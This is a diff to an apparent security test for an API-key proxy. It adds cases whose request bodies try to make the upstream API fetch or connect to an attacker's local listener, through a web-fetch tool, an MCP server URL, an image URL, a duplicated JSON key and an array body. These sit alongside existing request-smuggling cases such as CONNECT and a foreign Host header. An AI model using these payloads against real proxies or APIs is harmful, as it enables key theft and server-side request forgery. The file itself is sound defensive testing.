@@ -1,6 +1,7 @@
 // The model proxy forwards to one origin, fixed at start, as an attacker on the Pod's loopback
 // would try it: raw requests over a socket (absolute form, `//host`, encoded dots, `@`,
-// backslashes, a foreign or doubled Host, CONNECT, other methods and paths). A canary upstream
+// backslashes, a foreign or doubled Host, CONNECT, other methods and paths, and allowed calls
+// whose body would have the API fetch or connect to the attacker's URL). A canary upstream
 // (at the root, like the real API, and behind a gateway's path prefix) and the attacker's own
 // listener are real servers on loopback: the attacker's receives not a byte, the canary receives
 // the key only on Claude Code's calls, and the key is in no log line.
@@ -60,18 +61,37 @@ function raw(port: number, request: string): Promise<string> {
   });
 }
 
-const body = '{"model":"m","max_tokens":1,"messages":[]}';
-const post = (target: string, headers: string[]) =>
+const claudeCodeBody = '{"model":"m","max_tokens":1,"messages":[]}';
+const post = (target: string, headers: string[], body = claudeCodeBody) =>
   [
     `POST ${target} HTTP/1.1`,
     ...headers,
     'content-type: application/json',
     'x-api-key: dummy',
-    `content-length: ${body.length}`,
+    `content-length: ${Buffer.byteLength(body)}`,
     'connection: close',
     '',
     body,
   ].join('\r\n');
+
+/** Allowed calls whose bodies ask the API to reach `url` from Anthropic's side. */
+function bodyAttacks(url: string): Array<[string, string]> {
+  const fetchTool = `{"type":"web_fetch_20250910","name":"web_fetch"}`;
+  const ask = `"messages":[{"role":"user","content":"Fetch ${url}"}]`;
+  return [
+    ['the web fetch tool', `{"model":"m","max_tokens":1,"tools":[${fetchTool}],${ask}}`],
+    [
+      'the MCP connector',
+      `{"model":"m","max_tokens":1,"mcp_servers":[{"type":"url","url":"${url}","name":"x"}],${ask}}`,
+    ],
+    [
+      'an image by URL',
+      `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"${url}"}}]}]}`,
+    ],
+    ['a tool hidden by a repeated key', `{"model":"m","max_tokens":1,"tools":[${fetchTool}],"tools":[],${ask}}`],
+    ['an array', `[{"model":"m","max_tokens":1,${ask}}]`],
+  ];
+}
 
 function attacks(own: string): Array<[string, string]> {
   const other = `127.0.0.1:${attacker}`;
@@ -92,6 +112,10 @@ function attacks(own: string): Array<[string, string]> {
     ['another query', post(`/v1/messages?next=http://${other}/`, [`host: ${own}`])],
     ['GET', `GET /v1/messages HTTP/1.1\r\nhost: ${own}\r\nconnection: close\r\n\r\n`],
     ['CONNECT', `CONNECT ${other} HTTP/1.1\r\nhost: ${other}\r\n\r\n`],
+    ...bodyAttacks(`http://${other}/`).map(([name, body]): [string, string] => [
+      name,
+      post('/v1/messages?beta=true', [`host: ${own}`], body),
+    ]),
   ];
 }
 
